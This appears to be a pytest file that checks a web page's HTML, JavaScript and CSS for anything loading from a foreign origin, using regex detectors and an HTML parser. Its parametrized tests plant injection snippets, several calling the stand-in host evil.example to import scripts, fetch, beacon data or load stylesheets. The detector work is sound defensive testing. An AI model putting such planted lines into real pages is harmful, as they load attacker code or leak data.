"""The three files of the page load nothing from another origin: by their text, whatever the browser happens to execute."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from importlib import resources

import pytest

OWN = {"app.js", "style.css"}
# What makes a browser load or run something, beside the one fetch that is checked by itself
LOADS = re.compile(
    r"\b(?:import|export|importScripts|Worker|SharedWorker|serviceWorker|Worklet|eval|Function|WebSocket|WebTransport|EventSource"
    r"|RTCPeerConnection|XMLHttpRequest|sendBeacon|innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|write|writeln"
    r"|Image|Audio|FontFace|open|src|srcset|srcdoc|href|action|poster|setAttribute|cssText|insertRule)\b"
    r"|\blocation\b(?!\.reload\b)"
)
TOKENS = re.compile(
    r"(?P<comment>//[^\n]*|/\*.*?\*/)|(?P<string>\"(?:\\.|[^\"\\\n])*\"|'(?:\\.|[^'\\\n])*'|`(?:\\.|[^`\\])*`)", re.DOTALL
)
ELEMENTS = {"a", "i", "li", "div", "span", "p", "b", "time", "button", "canvas", "option"}


def page_file(name: str) -> str:
    return resources.files("edgecnn.runtime.view").joinpath(name).read_text()


def foreign_in_script(text: str) -> list[str]:
    """What in a script could load something that is not below ``api/`` of our own server."""
    strings = [match["string"] for match in TOKENS.finditer(text) if match["string"]]
    holes = [hole for string in strings if string[0] == "`" for hole in re.findall(r"\$\{([^}]*)\}", string)]
    code = TOKENS.sub(lambda match: '""' if match["string"] else " ", text) + " ; " + " ; ".join(holes)
    found = [match.group() for match in LOADS.finditer(code)]
    found += [
        string
        for string in strings
        if "//" in string or "url(" in string or re.match(r"(?i).(?:javascript|data|blob|wss?|https?|ftp):", string)
    ]
    fetches = re.findall(r"\bfetch\b[^\n]*", code)
    found += fetches if [re.sub(r"\s.*", "", call) for call in fetches] != ["fetch(path,"] else []
    calls = re.findall(r"(?<!function )\brequest\(([^\s,)]+)", TOKENS.sub(lambda m: (m["string"] or "").replace(" ", ""), text))
    found += [call for call in calls if not re.match(r"[\"`]api/", call)]
    made = re.findall(r"createElement(?:NS)?\(\"(\w+)\"", text)
    found += [tag for tag in made if tag not in ELEMENTS]
    return found + (["createElement"] if text.count("createElement") != len(made) else [])


def foreign_in_style(text: str) -> list[str]:
    return re.findall(r"(?i)@import[^;]*|(?:url|src|image|image-set|cross-fade)\([^)]*\)|//[^\s]*|expression\(|\\[0-9a-f]+", text)


class Page(HTMLParser):
    """Notes what a page loads, and what it runs that is not in a file of its own."""

    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []
        self.loaded: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        for name, value in attrs:
            if name in ("src", "srcset", "href", "action", "formaction", "data", "poster", "background", "ping", "manifest"):
                self.loaded.add(value or "")
                if value not in OWN:
                    self.foreign.append(f"{tag} {name}={value}")
            if name.startswith("on") or name in ("style", "srcdoc") or "http-equiv" in named:
                self.foreign.append(f"{tag} {name}")
        if tag in ("iframe", "object", "embed", "base", "style") or (tag == "script" and "src" not in named):
            self.foreign.append(tag)


def foreign_in_page(text: str) -> list[str]:
    page = Page()
    page.feed(text)
    return page.foreign


def test_the_files_load_only_each_other_and_the_api() -> None:
    page = Page()
    page.feed(page_file("index.html"))
    assert page.loaded == OWN
    assert page.foreign == []
    assert foreign_in_script(page_file("app.js")) == []
    assert foreign_in_style(page_file("style.css")) == []


@pytest.mark.parametrize(
    "planted",
    [
        'import("//evil.example/x.js");',
        "import('./other.js');",
        'if (never) { import ( elsewhere ) }',
        'import x from "//evil.example/x.js";',
        'const f = `${import("x")}`;',
        'fetch("//evil.example/");',
        "const get = fetch; get(elsewhere);",
        "fetch (`${elsewhere}`);",
        'request("other");',
        "request(elsewhere);",
        'new WebSocket("ws:" + elsewhere);',
        'new Worker("x.js");',
        'navigator.sendBeacon(elsewhere, "x");',
        'const s = document.createElement("script"); document.body.append(s);',
        "document.createElement(tag);",
        "card.canvas.src = elsewhere;",
        'card.root["inner" + "HTML"] = "//evil.example";',
        'location.href = elsewhere;',
        "location.assign(elsewhere);",
        "location = elsewhere;",
        'card.root.style.background = "url(x.png)";',
        'eval("1");',
        "new Function(text)();",
    ],
)  # fmt: skip
@pytest.mark.parametrize("at", ["start", "end"])
def test_a_foreign_load_planted_in_the_script_is_found(planted: str, at: str) -> None:
    script = page_file("app.js")
    assert foreign_in_script(f"{planted}\n{script}" if at == "start" else f"{script}\n{planted}\n")


@pytest.mark.parametrize(
    "planted", ['@import "x.css";', "p { background: url(x.png); }", "p { background: URL('//evil.example/x'); }"]
)
def test_a_foreign_load_planted_in_the_style_is_found(planted: str) -> None:
    assert foreign_in_style(page_file("style.css") + planted)


@pytest.mark.parametrize(
    "planted",
    [
        '<script src="//evil.example/x.js"></script>', "<script>run()</script>", '<img src="x.png">', '<p onclick="run()">',
        '<link rel="stylesheet" href="https://evil.example/x.css">', '<iframe></iframe>', '<meta http-equiv="refresh" content="0;x">',
    ],
)  # fmt: skip
def test_a_foreign_load_planted_in_the_page_is_found(planted: str) -> None:
    assert foreign_in_page(page_file("index.html").replace("</body>", planted + "</body>"))
